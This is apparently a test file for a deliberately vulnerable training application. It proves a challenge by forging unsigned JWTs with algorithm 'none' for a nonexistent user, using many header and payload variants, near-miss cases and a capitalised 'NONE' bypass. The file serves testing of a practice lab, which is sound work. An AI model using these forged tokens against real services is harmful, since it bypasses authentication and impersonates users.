import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { hmacToken, requestWithToken, unsignedToken } from '../../weaknesses/any-token-algorithm/make-token.ts'
import { challenge } from './challenge.ts'

const HEAD = { alg: 'none', typ: 'JWT' }

const nobody = ({ domain }: Attacker) => ({ email: `jwtn3d@${domain}` })
const token = (attacker: Attacker, head: object | string = HEAD, payload: object = { data: nobody(attacker) }) =>
  `${unsignedToken(head, payload)}.`
const withHead = (head: object | string) => (attacker: Attacker) => requestWithToken(attacker, token(attacker, head))
const withPayload = (payload: (attacker: Attacker) => object) => (attacker: Attacker) =>
  requestWithToken(attacker, token(attacker, HEAD, payload(attacker)))

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The player's own token shows the three parts and their contents.
    const { token: own } = await attacker.becomeCustomer()
    const { data } = JSON.parse(Buffer.from(own.split('.')[1]!, 'base64url').toString())
    await requestWithToken(
      attacker,
      token(attacker, HEAD, { status: 'success', data: { ...data, ...nobody(attacker) } }),
    )
  },
  spellings: {
    'with the e-mail alone, as write-ups have it': withHead(HEAD),
    'with the algorithm first in another order': withHead({ typ: 'JWT', alg: 'none' }),
    'without a type': withHead({ alg: 'none' }),
    'with capitals, as jwt_tool tries it': withHead({ alg: 'nOnE', typ: 'JWT' }),
    'with blanks in the head': withHead('{ "alg" : "none", "typ" : "JWT" }'),
    'with a time to come': withPayload((attacker) => ({ data: nobody(attacker), exp: 4_102_444_800 })),
    'with a time of issue': withPayload((attacker) => ({ data: nobody(attacker), iat: 1_700_000_000 })),
    'to the list of products': (attacker) => requestWithToken(attacker, token(attacker), '/rest/products/search?q='),
    'to what asks for a session': (attacker) => requestWithToken(attacker, token(attacker), '/rest/basket/1'),
    'with a name that only begins so': withPayload(() => ({ data: { email: 'jwtn3d@nowhere.test' } })),
  },
  nearMisses: {
    'a token without the last dot': (attacker) => requestWithToken(attacker, token(attacker).slice(0, -1)),
    'a token that has a signature': (attacker) => requestWithToken(attacker, `${token(attacker)}c2lnbmVk`),
    'a token that says it is signed': withHead({ alg: 'RS256', typ: 'JWT' }),
    'a token without an algorithm': withHead({ typ: 'JWT' }),
    'a token for an account that there is': withPayload(({ domain }) => ({ data: { email: `jim@${domain}` } })),
    'a token that is over': withPayload((attacker) => ({ data: nobody(attacker), exp: 1_000_000_000 })),
    'a token with the e-mail beside the data': withPayload(nobody),
    'a token for nobody signed with a guess': (attacker) =>
      requestWithToken(attacker, hmacToken('secret', { alg: 'HS256', typ: 'JWT' }, { data: nobody(attacker) })),
    'a token in a parameter': (attacker) => attacker.get(`/rest/user/whoami?token=${token(attacker)}`),
    'registering the name': async (attacker) => {
      const body = { ...nobody(attacker), password: 'ripe plums' }
      await attacker.post('/api/Users', { ...body, passwordRepeat: body.password })
      await attacker.post('/rest/user/login', body)
    },
  },
  bypasses: { 'refuse-none': withHead({ alg: 'NONE', typ: 'JWT' }) },
})
